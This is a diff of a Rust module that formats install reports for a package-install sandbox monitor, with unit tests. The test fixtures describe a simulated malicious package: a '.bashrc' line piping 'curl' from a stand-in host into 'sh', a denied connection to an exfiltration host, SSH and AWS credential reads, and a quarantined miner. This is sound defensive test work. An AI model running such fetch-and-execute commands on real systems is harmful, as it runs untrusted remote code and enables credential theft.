@@ -1,22 +1,711 @@
-//! Placeholder human summary (replaced by the real one on merge).
-use super::model::Report;
+//! Reports for people: the short summary printed on stderr after the
+//! manager's own output, and the full rendering of `pkgwarden report show`.
+//!
+//! Everything a package could have written (paths, excerpts, command lines)
+//! goes through [`clean`] first, so a hostile file name cannot move the
+//! cursor or recolour the terminal.
 
-/// True when colour may be used on stderr.
+use super::model::Report;
+use super::{
+    clean, command_line, evidence_line, hosts, shell_join, short_id, shorten, taken_name,
+    who_did_it,
+};
+use crate::detect::{Finding, Severity};
+use owo_colors::{OwoColorize, Style};
+use std::collections::{BTreeMap, HashSet};
+use std::fmt::Write as _;
+use std::io::IsTerminal;
+
+/// How many findings the summary shows before pointing at `report show`.
+const SUMMARY_FINDINGS: usize = 10;
+/// How many lines one section of `report show` prints at most.
+const SECTION_LINES: usize = 500;
+
+/// True when pkgwarden's stderr lines may be coloured: stderr is a terminal,
+/// `NO_COLOR` is unset (or empty) and `TERM` is not `dumb`.
 pub fn use_color() -> bool {
-    false
+    color_allowed(std::io::stderr().is_terminal())
 }
 
-/// One line or a block per finding.
-pub fn summary(r: &Report, _color: bool) -> String {
-    let mut s = format!(
-        "pkgwarden: {} {} — {} findings · report {}",
-        r.what.manager,
-        r.what.command,
-        r.findings.len(),
-        &r.id[..8.min(r.id.len())]
-    );
-    for f in &r.findings {
-        s.push_str(&format!("\n  [{}] {} {}", f.severity, f.rule, f.title));
+/// [`use_color`] for output on stdout (`report show`).
+pub fn use_color_stdout() -> bool {
+    color_allowed(std::io::stdout().is_terminal())
+}
+
+fn color_allowed(tty: bool) -> bool {
+    let no_color = std::env::var_os("NO_COLOR").is_some_and(|v| !v.is_empty());
+    let dumb = std::env::var_os("TERM").is_some_and(|t| t == "dumb");
+    tty && !no_color && !dumb
+}
+
+/// `s` in `style` when `color`, else as is.
+fn paint(s: &str, style: Style, color: bool) -> String {
+    if color {
+        s.style(style).to_string()
+    } else {
+        s.to_string()
     }
-    s
+}
+
+fn severity_style(s: Severity) -> Style {
+    match s {
+        Severity::Critical => Style::new().bold().white().on_red(),
+        Severity::High => Style::new().bold().red(),
+        Severity::Medium => Style::new().bold().yellow(),
+        Severity::Low => Style::new().cyan(),
+        Severity::Info => Style::new().dimmed(),
+    }
+}
+
+/// `HIGH` etc., padded to one width, coloured.
+fn tag(s: Severity, color: bool) -> String {
+    let text = format!("{:<8}", s.name().to_uppercase());
+    paint(&text, severity_style(s), color)
+}
+
+/// `1 critical, 2 high`: counts per severity, worst first.
+fn counts(r: &Report) -> String {
+    let mut by: BTreeMap<Severity, usize> = BTreeMap::new();
+    for f in &r.findings {
+        *by.entry(f.severity).or_default() += 1;
+    }
+    by.iter()
+        .rev()
+        .map(|(s, n)| format!("{n} {s}"))
+        .collect::<Vec<_>>()
+        .join(", ")
+}
+
+/// Findings worst first; equal severities keep the order they were found in.
+fn ranked(r: &Report) -> Vec<&Finding> {
+    let mut v: Vec<&Finding> = r.findings.iter().collect();
+    v.sort_by_key(|f| std::cmp::Reverse(f.severity));
+    v
+}
+
+/// The stderr summary of one install. Clean: one line
+/// (`pkgwarden: pip install requests — clean · 214 files · 2 hosts · report
+/// 7f3a12c4`). With findings: a header with the counts per severity, then a
+/// short block per finding (at most 10), then where to read the rest.
+pub fn summary(r: &Report, color: bool) -> String {
+    let cmd = clean(&shorten(&command_line(r), 60));
+    let id = clean(short_id(&r.id));
+    let n_hosts = hosts(r).len();
+    let plural = |n: u64, one: &str, many: &str| format!("{n} {}", if n == 1 { one } else { many });
+    let mut out = String::new();
+    if r.findings.is_empty() {
+        let mut verdict = paint("clean", Style::new().green(), color);
+        if !matches!(r.outcome.status.as_str(), "completed" | "") {
+            verdict.push_str(&format!(" ({})", clean(&r.outcome.status)));
+        }
+        let _ = writeln!(
+            out,
+            "pkgwarden: {cmd} — {verdict} · {} · {} · report {id}",
+            plural(r.files.writes, "file", "files"),
+            plural(n_hosts as u64, "host", "hosts"),
+        );
+        return out;
+    }
+    let n = r.findings.len();
+    let what = plural(n as u64, "finding", "findings");
+    let header = format!("{what} ({})", counts(r));
+    let header = match r.worst() {
+        Some(w) => paint(&header, severity_style(w), color),
+        None => header,
+    };
+    let mut status = String::new();
+    if r.outcome.status == "blocked" {
+        status = format!(
+            " · {}",
+            paint("install blocked", Style::new().bold().red(), color)
+        );
+    }
+    let _ = writeln!(out, "pkgwarden: {cmd} — {header}{status} · report {id}");
+    for f in ranked(r).into_iter().take(SUMMARY_FINDINGS) {
+        let _ = writeln!(
+            out,
+            "  {} {}  {}",
+            tag(f.severity, color),
+            paint(&clean(&f.rule), Style::new().bold(), color),
+            clean(&shorten(&f.title, 100))
+        );
+        let who = who_did_it(f);
+        let action = taken_name(f.action);
+        let action = match f.action {
+            crate::detect::Taken::Observed => action.to_string(),
+            _ => paint(action, Style::new().bold(), color),
+        };
+        let origin = if who.is_empty() {
+            action
+        } else {
+            format!("{who} · {action}")
+        };
+        let _ = writeln!(out, "           {origin}");
+        let ev = evidence_line(&f.evidence);
+        if !ev.is_empty() {
+            let _ = writeln!(out, "           {}", shorten(&ev, 110));
+        }
+    }
+    if n > SUMMARY_FINDINGS {
+        let _ = writeln!(
+            out,
+            "  … {} more, see `pkgwarden report show {id}`",
+            n - SUMMARY_FINDINGS
+        );
+    } else {
+        let _ = writeln!(out, "  details: `pkgwarden report show {id}`");
+    }
+    out
+}
+
+/// Sizes in B, kB, MB.
+fn bytes(n: u64) -> String {
+    match n {
+        0..1_000 => format!("{n} B"),
+        1_000..1_000_000 => format!("{:.1} kB", n as f64 / 1e3),
+        _ => format!("{:.1} MB", n as f64 / 1e6),
+    }
+}
+
+/// A list, or `none`.
+fn list(items: &[String]) -> String {
+    if items.is_empty() {
+        "none".into()
+    } else {
+        clean(&items.join(", "))
+    }
+}
+
+/// Writes a section heading (`title (count)`) and up to [`SECTION_LINES`]
+/// lines.
+fn section(out: &mut String, title: &str, count: usize, lines: Vec<String>, color: bool) {
+    let _ = writeln!(
+        out,
+        "\n{} ({count})",
+        paint(title, Style::new().bold().underline(), color),
+    );
+    if lines.is_empty() {
+        let _ = writeln!(out, "  none");
+    }
+    for l in lines.iter().take(SECTION_LINES) {
+        let _ = writeln!(out, "  {l}");
+    }
+    if lines.len() > SECTION_LINES {
+        let _ = writeln!(
+            out,
+            "  … {} more (the JSON has all: --format json)",
+            lines.len() - SECTION_LINES
+        );
+    }
+}
+
+/// The process tree as indented lines: children under their parent, in exec
+/// order.
+fn tree(r: &Report) -> Vec<String> {
+    let nodes = &r.processes;
+    let pids: HashSet<i32> = nodes.iter().map(|n| n.pid).collect();
+    let mut lines = Vec::new();
+    let mut seen = vec![false; nodes.len()];
+    // Iterative depth-first walk; `seen` guards against pid reuse making a
+    // cycle.
+    let mut stack: Vec<(usize, usize)> = nodes
+        .iter()
+        .enumerate()
+        .filter(|(_, n)| n.ppid.is_none_or(|p| !pids.contains(&p) || p == n.pid))
+        .map(|(i, _)| (i, 0))
+        .rev()
+        .collect();
+    while let Some((i, depth)) = stack.pop().or_else(|| {
+        // Anything not reached from a root (a cycle) is shown at the top.
+        seen.iter().position(|s| !s).map(|i| (i, 0))
+    }) {
+        if seen[i] {
+            continue;
+        }
+        seen[i] = true;
+        let n = &nodes[i];
+        let indent = if depth == 0 {
+            String::new()
+        } else {
+            format!("{}└ ", "  ".repeat(depth.min(20) - 1))
+        };
+        let mut line = format!(
+            "{indent}{} {}",
+            n.pid,
+            clean(&shorten(&shell_join(&n.argv), 120))
+        );
+        if n.argv.first().is_none_or(|a| !n.exe.ends_with(a.as_str())) {
+            line.push_str(&format!("  ({})", clean(&n.exe)));
+        }
+        let origin: Vec<&str> = [n.package.as_deref(), n.hook.as_deref()]
+            .into_iter()
+            .flatten()
+            .collect();
+        if !origin.is_empty() {
+            line.push_str(&format!("  [{}]", clean(&origin.join(" "))));
+        }
+        lines.push(line);
+        let children: Vec<usize> = nodes
+            .iter()
+            .enumerate()
+            .filter(|(j, c)| !seen[*j] && c.ppid == Some(n.pid) && c.pid != n.pid)
+            .map(|(j, _)| j)
+            .collect();
+        for j in children.into_iter().rev() {
+            stack.push((j, depth + 1));
+        }
+    }
+    lines
+}
+
+/// One event as a line: time, pid, kind, what, decision.
+fn event_line(e: &crate::monitor::notify::Event) -> String {
+    let mut what = e.paths.join(" → ");
+    if let Some(a) = &e.addr {
+        if !what.is_empty() {
+            what.push(' ');
+        }
+        what.push_str(a);
+    }
+    if let Some(q) = &e.dns_query {
+        what.push_str(&format!(" (DNS {q})"));
+    }
+    let action = format!("{:?}", e.action).to_lowercase();
+    let errno = e.errno.map(|n| format!(" errno {n}")).unwrap_or_default();
+    clean(&format!(
+        "{:>7.1}s  pid {:<7} {:<11} {what}  {action}{errno}",
+        e.ms as f64 / 1000.0,
+        e.pid,
+        e.kind
+    ))
+}
+
+/// The full report for `pkgwarden report show`: who, what, sandbox, outcome,
+/// findings, processes, endpoints, network, files, environment, snapshot and
+/// quarantine.
+pub fn show(r: &Report, color: bool) -> String {
+    let mut out = String::new();
+    let label = |s: &str| paint(&format!("{s:<10}"), Style::new().bold(), color);
+    let _ = writeln!(
+        out,
+        "{}{}  started {} · took {:.1} s · format {}",
+        label("report"),
+        clean(&r.id),
+        clean(&r.started),
+        r.duration_ms as f64 / 1000.0,
+        r.version
+    );
+    let w = &r.who;
+    let _ = writeln!(
+        out,
+        "{}{} (uid {}) on {}",
+        label("who"),
+        clean(w.user.as_deref().unwrap_or("?")),
+        w.uid,
+        clean(w.host.as_deref().unwrap_or("?"))
+    );
+    if !w.parents.is_empty() {
+        let _ = writeln!(
+            out,
+            "{}{}",
+            label(""),
+            clean(&format!("parents: {}", w.parents.join(" ← ")))
+        );
+    }
+    let what = &r.what;
+    let _ = writeln!(
+        out,
+        "{}{}  ({}{})",
+        label("what"),
+        clean(&command_line(r)),
+        clean(&what.real_exe),
+        what.version
+            .as_deref()
+            .map(|v| clean(&format!(" {v}")))
+            .unwrap_or_default()
+    );
+    let _ = writeln!(
+        out,
+        "{}cwd {} · mode {} · policy {} from {}",
+        label(""),
+        clean(&what.cwd),
+        clean(&what.mode),
+        clean(short_id(&what.policy_hash)),
+        list(&what.policy_sources)
+    );
+    let sb = &r.sandbox;
+    let _ = writeln!(out, "{}enforced: {}", label("sandbox"), list(&sb.enforced));
+    if !sb.observed_only.is_empty() {
+        let warn = format!("observed only (not enforced): {}", list(&sb.observed_only));
+        let _ = writeln!(
+            out,
+            "{}{}",
+            label(""),
+            paint(&warn, Style::new().yellow(), color)
+        );
+    }
+    if !sb.readable_secrets.is_empty() {
+        let _ = writeln!(
+            out,
+            "{}credential stores left readable: {}",
+            label(""),
+            list(&sb.readable_secrets)
+        );
+    }
+    if sb.filter_still_held {
+        let _ = writeln!(
+            out,
+            "{}processes still held the seccomp filter after the grace period",
+            label("")
+        );
+    }
+    let _ = writeln!(
+        out,
+        "{}{} notifications handled",
+        label(""),
+        sb.notifications
+    );
+    let o = &r.outcome;
+    let mut outcome = clean(&o.status);
+    if let Some(c) = o.manager_exit {
+        outcome.push_str(&format!(" · manager exit {c}"));
+    }
+    if let Some(s) = o.signal {
+        outcome.push_str(&format!(" · signal {s}"));
+    }
+    outcome.push_str(&format!(" · pkgwarden exit {}", o.exit_code));
+    let _ = writeln!(out, "{}{outcome}", label("outcome"));
+
+    // Findings, worst first, each in full.
+    let title = if r.findings.is_empty() {
+        "findings".to_string()
+    } else {
+        format!("findings: {}", counts(r))
+    };
+    let _ = writeln!(
+        out,
+        "\n{} ({})",
+        paint(&title, Style::new().bold().underline(), color),
+        r.findings.len()
+    );
+    if r.findings.is_empty() {
+        let _ = writeln!(out, "  none");
+    }
+    for f in ranked(r) {
+        let _ = writeln!(
+            out,
+            "  {} {}  {}",
+            tag(f.severity, color),
+            paint(&clean(&f.rule), Style::new().bold(), color),
+            clean(&f.title)
+        );
+        let pad = "           ";
+        let mut facts = vec![format!("action {}", taken_name(f.action))];
+        if !f.attack.is_empty() {
+            facts.push(format!("ATT&CK {}", f.attack.join(", ")));
+        }
+        let who = who_did_it(f);
+        if !who.is_empty() {
+            facts.push(who);
+        }
+        let _ = writeln!(out, "{pad}{}", clean(&facts.join(" · ")));
+        if !f.chain.is_empty() {
+            let _ = writeln!(out, "{pad}chain {}", clean(&f.chain.join(" → ")));
+        }
+        let e = &f.evidence;
+        for (i, p) in e.paths.iter().enumerate() {
+            let line = e
+                .line
+                .filter(|_| i == 0)
+                .map(|l| format!(":{l}"))
+                .unwrap_or_default();
+            let _ = writeln!(out, "{pad}file {}{line}", clean(p));
+        }
+        if let Some(x) = &e.excerpt {
+            let _ = writeln!(out, "{pad}text {}", clean(x));
+        }
+        if let Some(ep) = &e.endpoint {
+            let _ = writeln!(out, "{pad}endpoint {}", clean(ep));
+        }
+        if let Some(a) = &e.argv {
+            let _ = writeln!(out, "{pad}command {}", clean(&shell_join(a)));
+        }
+        if let Some(h) = &e.sha256 {
+            let _ = writeln!(out, "{pad}sha256 {}", clean(h));
+        }
+        if let Some(d) = &e.detail {
+            let _ = writeln!(out, "{pad}detail {}", clean(d));
+        }
+    }
+
+    section(&mut out, "processes", r.processes.len(), tree(r), color);
+    if !r.lingering.is_empty() {
+        let lines = r
+            .lingering
+            .iter()
+            .map(|l| {
+                clean(&format!(
+                    "{} (parent {}) {}",
+                    l.pid,
+                    l.ppid,
+                    shorten(&shell_join(&l.argv), 120)
+                ))
+            })
+            .collect();
+        section(
+            &mut out,
+            "still running after the install",
+            r.lingering.len(),
+            lines,
+            color,
+        );
+    }
+    let endpoints = r
+        .endpoints
+        .iter()
+        .map(|e| {
+            let verdict = format!("{:<10}", format!("{:?}", e.verdict).to_lowercase());
+            let verdict = match e.verdict {
+                crate::monitor::proxy::Verdict::Allowed => verdict,
+                _ => paint(&verdict, Style::new().yellow(), color),
+            };
+            let pid = e.pid.map(|p| format!(" pid {p}")).unwrap_or_default();
+            let reason = e
+                .reason
+                .as_deref()
+                .map(|r| format!(" ({r})"))
+                .unwrap_or_default();
+            format!(
+                "{verdict} {} {}:{}{pid} ↑{} ↓{} {} ms{}",
+                clean(&e.method),
+                clean(&e.host),
+                e.port,
+                bytes(e.bytes_up),
+                bytes(e.bytes_down),
+                e.duration_ms,
+                clean(&reason)
+            )
+        })
+        .collect();
+    section(
+        &mut out,
+        "endpoints (through the proxy)",
+        r.endpoints.len(),
+        endpoints,
+        color,
+    );
+    section(
+        &mut out,
+        "network (direct)",
+        r.network.len(),
+        r.network.iter().map(event_line).collect(),
+        color,
+    );
+
+    let f = &r.files;
+    let files = f
+        .per_root
+        .iter()
+        .map(|(root, n)| clean(&format!("{n:>7}  {root}")))
+        .collect();
+    section(
+        &mut out,
+        "file writes, in all",
+        usize::try_from(f.writes).unwrap_or(usize::MAX),
+        files,
+        color,
+    );
+    section(
+        &mut out,
+        "writes outside the expected places",
+        f.outside.len(),
+        f.outside.iter().map(event_line).collect(),
+        color,
+    );
+    section(
+        &mut out,
+        "credential reads",
+        f.secret_reads.len(),
+        f.secret_reads.iter().map(event_line).collect(),
+        color,
+    );
+    let _ = writeln!(
+        out,
+        "\n{}\n  removed: {}\n  kept (secret-like): {}",
+        paint(
+            "environment (names only)",
+            Style::new().bold().underline(),
+            color
+        ),
+        list(&r.env.removed),
+        list(&r.env.kept)
+    );
+    let snapshot = r
+        .snapshot
+        .iter()
+        .flat_map(|c| {
+            let head = clean(&format!("{:?} {}", c.kind, c.path).to_lowercase());
+            let head = format!(
+                "{head}{}",
+                clean(
+                    &c.after
+                        .as_ref()
+                        .and_then(|a| a.sha256.as_deref())
+                        .map(|h| format!(" sha256 {}", short_id(h)))
+                        .unwrap_or_default(),
+                )
+            );
+            std::iter::once(head).chain(
+                c.added_lines
+                    .iter()
+                    .map(|(n, l)| clean(&format!("  + {n}: {}", shorten(l, 120)))),
+            )
+        })
+        .collect();
+    section(
+        &mut out,
+        "persistence locations changed",
+        r.snapshot.len(),
+        snapshot,
+        color,
+    );
+    if !r.quarantine.is_empty() {
+        let lines = r
+            .quarantine
+            .iter()
+            .map(|q| {
+                clean(&format!(
+                    "{} → {} (sha256 {}){}",
+                    q.original,
+                    q.stored,
+                    short_id(&q.sha256),
+                    if q.restored_previous {
+                        ", earlier content put back"
+                    } else {
+                        ""
+                    }
+                ))
+            })
+            .collect();
+        section(&mut out, "quarantine", r.quarantine.len(), lines, color);
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::report::testdata::{clean_report, dirty_report};
+
+    #[test]
+    fn a_clean_install_is_one_line() {
+        let r = clean_report("7f3a12c4e5d6f7a8");
+        let s = summary(&r, false);
+        assert_eq!(
+            s,
+            "pkgwarden: pip install requests — clean · 214 files · 2 hosts · report 7f3a12c4\n"
+        );
+        let colored = summary(&r, true);
+        assert_eq!(colored.lines().count(), 1);
+        assert!(colored.contains("\u{1b}["), "{colored:?}");
+    }
+
+    #[test]
+    fn findings_get_a_header_and_a_block_each_worst_first() {
+        let r = dirty_report("7f3a12c4e5d6f7a8");
+        let s = summary(&r, false);
+        let first = s.lines().next().unwrap_or_default();
+        assert!(
+            first.contains("7 findings (1 critical, 3 high, 1 medium, 1 low, 1 info)"),
+            "{first}"
+        );
+        assert!(first.contains("install blocked") && first.ends_with("report 7f3a12c4"));
+        assert!(
+            s.lines()
+                .nth(1)
+                .unwrap_or_default()
+                .contains("CRITICAL cred.read"),
+            "{s}"
+        );
+        assert!(
+            s.contains("pid 4242 (evil-pkg@1.0.0 postinstall) · blocked"),
+            "{s}"
+        );
+        assert!(
+            s.contains("/home/alice/.bashrc:12  curl -s http://x.test/a | sh"),
+            "{s}"
+        );
+        assert!(s.contains("[2001:db8::1]:8080  errno EACCES"), "{s}");
+        assert!(s.contains("quarantined"));
+        // The hostile title cannot reach the terminal as an escape sequence.
+        assert!(!s.contains('\u{1b}'), "{s:?}");
+        assert!(s.contains("\\u{1b}[31mcurl"), "{s}");
+        assert!(s.contains("details: `pkgwarden report show 7f3a12c4`"));
+    }
+
+    #[test]
+    fn more_than_ten_findings_point_at_report_show() {
+        let mut r = dirty_report("7f3a12c4e5d6f7a8");
+        let extra = r.findings.clone();
+        r.findings.extend(extra);
+        let s = summary(&r, true);
+        assert!(
+            s.contains("… 4 more, see `pkgwarden report show 7f3a12c4`"),
+            "{s}"
+        );
+        assert_eq!(s.matches("persist.shell-rc happened").count(), 2);
+        assert_eq!(
+            s.matches("cred.env").count(),
+            0,
+            "low findings are past the first ten"
+        );
+    }
+
+    #[test]
+    fn show_has_every_section() {
+        let r = dirty_report("7f3a12c4e5d6f7a8");
+        let s = show(&r, false);
+        for want in [
+            "report    7f3a12c4e5d6f7a8",
+            "who       alice (uid 1000) on devbox",
+            "what      npm install evil-pkg",
+            "observed only (not enforced): landlock-net",
+            "outcome   blocked · manager exit 0 · pkgwarden exit 90",
+            "findings: 1 critical, 3 high, 1 medium, 1 low, 1 info (7)",
+            "chain 10 pip → 11 sh → 4242 node",
+            "file /home/alice/.ssh/id_ed25519",
+            "file /home/alice/.aws/credentials",
+            "ATT&CK T1552.001, T1552.004",
+            "processes (3)",
+            "  10 pip install requests  (/usr/bin/python3)",
+            "  └ 11 sh -c 'echo hi'",
+            "    └ 4242 node postinstall.js  [evil-pkg@1.0.0 postinstall]",
+            "still running after the install (1)",
+            "denied     CONNECT webhook.exfil.test:443",
+            "203.0.113.9:8080  denied",
+            "214  /home/alice/.venv",
+            "/home/alice/.ssh/id_ed25519  denied",
+            "removed: GITHUB_TOKEN",
+            "modified /home/alice/.bashrc",
+            "+ 12: curl -s http://x.test/a | sh",
+            "/tmp/.x/miner.js → /home/alice/.local/state/pkgwarden/quarantine/1",
+        ] {
+            assert!(s.contains(want), "missing {want:?} in\n{s}");
+        }
+        assert!(!s.contains('\u{1b}'));
+        assert!(show(&clean_report("00"), true).contains("\u{1b}["));
+    }
+
+    #[test]
+    fn show_survives_cycles_and_odd_trees() {
+        let mut r = dirty_report("7f3a12c4e5d6f7a8");
+        r.processes[0].ppid = Some(4242);
+        let s = show(&r, false);
+        assert!(s.contains("processes (3)"), "{s}");
+        r.processes.clear();
+        r.started = String::new();
+        r.id = String::new();
+        let _ = show(&r, false);
+        let _ = summary(&r, false);
+    }
 }
